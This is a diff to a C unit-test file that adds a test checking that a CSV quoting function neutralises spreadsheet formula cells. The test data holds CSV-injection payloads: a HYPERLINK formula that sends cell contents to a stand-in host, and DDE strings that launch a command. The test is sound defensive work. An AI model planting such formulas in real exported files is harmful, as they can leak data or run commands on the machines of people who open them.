@@ -137,12 +137,40 @@ static void test_quote_round_trip(void **state)
     assert_int_equal(csv_quote("too long for this", out, 5), 0);
 }
 
+/* Cells a spreadsheet would run (OWASP CSV injection) are written as
+ * text: quoted, behind a leading '. */
+static void test_formulas_are_neutralised(void **state)
+{
+    (void)state;
+    char out[256];
+    static const struct {
+        const char *in, *want;
+    } cases[] = {
+        {"=HYPERLINK(\"http://x.example/?\"&A1,\"Open\")",
+         "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Open\"\")\""},
+        {"=cmd|' /C calc'!A0", "\"'=cmd|' /C calc'!A0\""},
+        {"@SUM(1+9)*cmd|' /C calc'!A0", "\"'@SUM(1+9)*cmd|' /C calc'!A0\""},
+        {"+1 312 555 0100", "\"'+1 312 555 0100\""},
+        {"-2+3", "\"'-2+3\""},
+        {"\t=1+1", "\"'\t=1+1\""},
+        {"\r=1+1", "\"'\r=1+1\""},
+        {"Ana = Analyst", "Ana = Analyst"},
+        {"", ""},
+    };
+    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+        csv_quote(cases[i].in, out, sizeof out);
+        assert_string_equal(out, cases[i].want);
+    }
+    assert_int_equal(csv_quote("=1", out, 3), 0); /* '"', '\'' and the rest do not fit */
+}
+
 int main(int argc, char **argv)
 {
     (void)argc;
     support_init(argv[0]);
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(test_plain_rows_and_lines),
+        cmocka_unit_test(test_formulas_are_neutralised),
         cmocka_unit_test(test_quotes_commas_and_line_breaks),
         cmocka_unit_test(test_blank_lines_skipped_but_counted),
         cmocka_unit_test(test_empty_fields_and_trailing_comma),
